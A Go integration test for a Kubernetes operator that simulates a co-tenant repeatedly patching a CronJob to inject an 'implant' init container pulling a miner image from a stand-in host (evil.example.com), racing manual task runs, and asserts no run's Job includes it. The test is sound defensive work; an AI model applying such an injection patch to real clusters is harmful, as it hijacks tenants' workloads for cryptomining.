// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The platform-operator Authors.

package integration

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	batchv1 "k8s.io/api/batch/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	platformv1 "github.com/example/platform-operator/api/v1"
	"github.com/example/platform-operator/internal/testutil"
)

// A co-tenant who may patch CronJobs (the edit role may) keeps putting an
// init container into the task's CronJob while a user starts manual runs.
// The operator puts the template back each time, but a run it starts in
// between must not be made of what the CronJob holds at that instant: the
// Job would run the implant, signed as the task's own pod. Every run's Job
// must hold exactly the task's pod, however the race falls.
func TestTenant_AnImplantRacingAManualRunNeverRuns(t *testing.T) {
	ctx := context.Background()
	ns := newNamespace(t)
	st := testutil.NewScheduleTask(ns, "raced", testutil.WithConcurrencyPolicy(platformv1.AllowConcurrent),
		testutil.WithSchedule("0 0 1 1 *"))
	createTask(t, st)
	cfg := userConfig(t, ns, "co-tenant", withRules(rbacv1.PolicyRule{
		APIGroups: []string{"batch"}, Resources: []string{"cronjobs"}, Verbs: []string{"get", "patch"}}))
	cfg.QPS, cfg.Burst = 1000, 1000 // an attacker does not hold back
	coTenant, err := client.New(cfg, client.Options{Scheme: testEnv.Scheme})
	if err != nil {
		t.Fatal(err)
	}

	// A merge patch, as kubectl patch sends: no resourceVersion, so it
	// lands whenever it is sent.
	implant := client.RawPatch(types.MergePatchType, []byte(`{"spec":{"jobTemplate":{"spec":{"template":{"spec":`+
		`{"initContainers":[{"name":"implant","image":"evil.example.com/miner:1"}]}}}}}}`))
	target := &batchv1.CronJob{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: st.Name}}
	attackCtx, stop := context.WithCancel(ctx)
	var wg sync.WaitGroup
	var attacks, conflicts int
	var attackErr error
	var mu sync.Mutex
	for range 2 {
		wg.Go(func() {
			for attackCtx.Err() == nil {
				err := coTenant.Patch(attackCtx, target.DeepCopy(), implant, client.FieldOwner("co-tenant"))
				mu.Lock()
				if err == nil {
					attacks++
				} else if apierrors.IsConflict(err) {
					conflicts++
				} else if attackCtx.Err() == nil && attackErr == nil {
					attackErr = err
				}
				mu.Unlock()
			}
		})
	}
	defer func() { stop(); wg.Wait() }()

	const runs = 12
	for i := range runs {
		tr := testutil.NewManualTaskRun(ns, fmt.Sprintf("run-%d", i), st.Name)
		if err := k8sClient.Create(ctx, tr); err != nil {
			t.Fatalf("create run %s: %v", tr.Name, err)
		}
		time.Sleep(150 * time.Millisecond) // spread the runs over the fight
	}
	var jobs []batchv1.Job
	eventually(t, "a Job for every run", func() error {
		var list platformv1.TaskRunList
		if err := k8sClient.List(ctx, &list, client.InNamespace(ns)); err != nil {
			return err
		}
		jobs = jobs[:0]
		var errs []error
		for _, tr := range list.Items {
			if tr.Spec.JobRef == nil {
				errs = append(errs, fmt.Errorf("run %s has no Job", tr.Name))
				continue
			}
			var job batchv1.Job
			if err := k8sClient.Get(ctx, client.ObjectKey{Namespace: ns, Name: tr.Spec.JobRef.Name}, &job); err != nil {
				errs = append(errs, err)
				continue
			}
			jobs = append(jobs, job)
		}
		if len(errs) == 0 && len(jobs) != runs {
			errs = append(errs, fmt.Errorf("%d runs with Jobs, want %d", len(jobs), runs))
		}
		return errors.Join(errs...)
	})
	stop()
	wg.Wait()
	if attackErr != nil {
		t.Fatalf("the co-tenant could not patch the CronJob: %v", attackErr)
	}
	// A conflict is the race itself: the operator wrote in between.
	t.Logf("the co-tenant applied the implant %d times (%d conflicts) while %d runs started", attacks, conflicts, runs)
	for _, job := range jobs {
		ps := job.Spec.Template.Spec
		if len(ps.InitContainers) > 0 {
			t.Errorf("Job %s of a manual run runs the co-tenant's init container %s (%s)",
				job.Name, ps.InitContainers[0].Name, ps.InitContainers[0].Image)
		}
		if len(ps.Containers) != 1 || ps.Containers[0].Image != st.Spec.Image {
			t.Errorf("Job %s runs %d containers, want only the task's %s", job.Name, len(ps.Containers), st.Spec.Image)
		}
	}
}
